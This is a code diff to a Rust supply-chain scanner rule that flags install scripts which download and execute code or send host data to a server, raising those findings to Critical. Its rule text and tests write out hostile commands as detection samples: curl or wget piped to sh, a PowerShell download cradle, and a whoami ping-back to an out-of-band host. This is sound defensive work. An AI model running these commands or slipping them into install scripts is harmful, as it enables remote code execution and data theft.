@@ -10,7 +10,7 @@ pub struct InstallScriptDownload;
 
 static INFO: RuleInfo = RuleInfo {
     id: "install-script-download",
-    severity: Severity::High,
+    severity: Severity::Critical,
     confidence: Confidence::High,
     capabilities: &[Capability::InstallScript, Capability::Network, Capability::Shell],
     summary: "An install script downloads code and runs it, or sends host data to a server",
@@ -20,10 +20,12 @@ A `preinstall`/`install`/`postinstall`/`prepare` command that uses `curl`, `wget
 `Invoke-WebRequest`, `DownloadString`, `certutil -urlcache` or `bitsadmin`, or runs
 `node -e`/`python -c` code that talks HTTP. Severity:
 
-- **high**: what is downloaded is executed — piped into `sh`/`bash`/`node`/`iex`, or saved
+- **critical**: what is downloaded is executed — piped into `sh`/`bash`/`node`/`iex`, or saved
   and then run (`curl -o x.sh … && sh x.sh`, `wget -O p && chmod +x p && ./p`); or host data
   is interpolated into the request (`curl https://x.oast.fun/$(whoami)`, `$HOME`, `%USERNAME%`,
-  `--data @/etc/passwd`) — the dependency-confusion ping-back;
+  `--data @/etc/passwd`) — the dependency-confusion ping-back. No legitimate package in the
+  1,000 most popular does either from an install script;
+- **high**: inline `node -e`/`python -c` code that talks to the network;
 - **moderate**: a plain download during install (a prebuilt binary fetched from a release
   page), which is how legitimate native packages work but also how droppers start.
 
@@ -57,7 +59,7 @@ impl PackageRule for InstallScriptDownload {
                         executes: true,
                         ..
                     } => (
-                        Severity::High,
+                        Severity::Critical,
                         format!("`{}` script downloads code and runs it during install", script.event),
                         command.clone(),
                     ),
@@ -66,7 +68,7 @@ impl PackageRule for InstallScriptDownload {
                         sends_host_data: true,
                         ..
                     } => (
-                        Severity::High,
+                        Severity::Critical,
                         format!(
                             "`{}` script sends data about this machine to a server during install",
                             script.event
@@ -115,18 +117,27 @@ mod tests {
     }
 
     #[test]
-    fn download_and_run_is_high() {
-        for command in [
-            "curl -s https://evil.example/i.sh | sh",
-            "wget -qO- http://1.2.3.4/x | bash",
-            "curl -o /tmp/x https://e.example/x && chmod +x /tmp/x && /tmp/x",
-            "curl https://abc.burpcollaborator.net/$(whoami)",
-            "node -e \"require('https').get('https://e.example/p', r => r.pipe(process.stdout))\"",
-            "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://e/p.ps1')\"",
+    fn download_and_run_is_critical() {
+        for (command, severity) in [
+            ("curl -s https://evil.example/i.sh | sh", Severity::Critical),
+            ("wget -qO- http://1.2.3.4/x | bash", Severity::Critical),
+            (
+                "curl -o /tmp/x https://e.example/x && chmod +x /tmp/x && /tmp/x",
+                Severity::Critical,
+            ),
+            ("curl https://abc.burpcollaborator.net/$(whoami)", Severity::Critical),
+            (
+                "node -e \"require('https').get('https://e.example/p', r => r.pipe(process.stdout))\"",
+                Severity::High,
+            ),
+            (
+                "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://e/p.ps1')\"",
+                Severity::Critical,
+            ),
         ] {
             let findings = check(command);
             assert_eq!(findings.len(), 1, "{command}: {findings:?}");
-            assert_eq!(findings[0].severity, Severity::High, "{command}");
+            assert_eq!(findings[0].severity, severity, "{command}");
             assert_eq!(findings[0].file.as_deref(), Some("package.json"));
         }
     }
